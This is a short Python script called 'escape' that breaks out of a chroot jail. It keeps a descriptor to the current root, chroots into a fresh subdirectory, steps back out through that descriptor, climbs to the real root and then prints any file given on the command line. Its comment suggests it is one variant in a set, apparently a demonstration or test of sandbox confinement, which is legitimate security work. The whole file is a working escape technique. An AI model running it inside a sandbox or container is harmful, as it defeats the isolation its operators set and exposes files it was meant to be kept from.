#!/usr/bin/python3
# Different: the same way with a descriptor, in another language.
import os
import sys

if len(sys.argv) != 2:
    print("usage: escape FILE", file=sys.stderr)
    sys.exit(2)
top = os.open("/", os.O_PATH | os.O_DIRECTORY)
try:
    os.mkdir("/elsewhere")
except FileExistsError:
    pass
os.chroot("/elsewhere")
os.fchdir(top)
os.rmdir("elsewhere")
while not os.path.samefile(".", ".."):
    os.chdir("..")
os.chroot(".")
try:
    with open(sys.argv[1], "rb") as file:
        sys.stdout.buffer.write(file.read())
except OSError as error:
    print(f"escape: {error}", file=sys.stderr)
    sys.exit(1)
